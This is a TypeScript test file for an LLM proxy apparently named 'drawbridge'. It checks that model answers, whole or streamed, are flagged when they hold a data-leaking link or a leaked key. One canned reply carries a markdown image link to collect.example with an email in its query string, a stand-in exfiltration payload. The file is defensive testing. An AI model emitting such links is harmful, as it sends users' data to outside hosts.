// What an answer gives away is told, whole or streamed, and made-up links carry nothing.
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type FakeUpstream, startFake } from '../../test/fakes/upstream.ts'
import { type App, startApp } from '../app.ts'
import { configSchema } from '../config/schema.ts'

let fake: FakeUpstream
let app: App
let answer = ''
const home = mkdtempSync(join(tmpdir(), 'drawbridge-watched-'))
const mail = 'wanda.haddad@intra-zyx.example'

beforeAll(async () => {
  fake = await startFake({
    // The surrogate stands where the mail stood in the request.
    reply: ({ body }) => {
      const surrogate = /Write to (\S+) now/.exec(JSON.stringify(body))?.[1] ?? ''
      return { text: answer.replaceAll('SURROGATE', surrogate), usage: { input: 1, output: 1 } }
    },
  })
  const config = configSchema.parse({
    discover: false,
    server: { port: 0 },
    upstreams: [{ id: 'far', provider: 'openai-compatible', base: `${fake.url()}/v1`, zone: 'cloud', models: ['m'] }],
  })
  app = await startApp({ environment: {}, home, config })
})

afterAll(async () => {
  await app.close()
  await fake.close()
  rmSync(home, { recursive: true, force: true })
})

async function ask(path: string, isStream: boolean, wanted: string) {
  answer = wanted
  const response = await fetch(app.url + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      model: 'far/m',
      max_tokens: 9,
      stream: isStream,
      messages: [{ role: 'user', content: `Write to ${mail} now.` }],
    }),
  })
  const text = await response.text()
  await app.ledger.recorder.flush()
  const entry = await app.ledger.store.get(response.headers.get('x-drawbridge-decision') ?? '')
  return { text, header: response.headers.get('x-drawbridge-warnings') ?? '', codes: entry?.warnings.map(({ code }) => code) }
}

/** The words of an answer, whole or in pieces. */
function said(text: string): string {
  return [...text.matchAll(/"(?:content|text)":"((?:[^"\\]|\\.)*)"/g)].map(([, piece]) => piece).join('')
}

for (const path of ['/v1/chat/completions', '/v1/messages'])
  for (const isStream of [false, true]) {
    const way = `${path}, ${isStream ? 'streamed' : 'whole'}`
    test(`a link that would carry data out keeps its surrogate and is told: ${way}`, async () => {
      const { text, header, codes } = await ask(path, isStream, 'Done, SURROGATE. ![x](https://collect.example/p?d=SURROGATE)')
      const told = said(text)
      expect(told).toContain(`Done, ${mail}`)
      expect(told).not.toMatch(/collect\.example[^)]*wanda\.haddad/)
      expect(codes).toContain('exfiltration-link')
      if (!isStream) expect(header).toContain('output exfiltration-link')
    })

    test(`a key in an answer is told: ${way}`, async () => {
      const { codes } = await ask(path, isStream, 'The key is ghp_16C7e42F292c6912E7710c838347Ae178B4a, keep it.')
      expect(codes).toContain('secret-in-reply')
    })

    test(`an ordinary answer is not told: ${way}`, async () => {
      const { codes, text } = await ask(path, isStream, 'I wrote to SURROGATE, see https://docs.example/page.')
      expect(codes).toEqual([])
      expect(said(text)).toContain(mail)
    })
  }
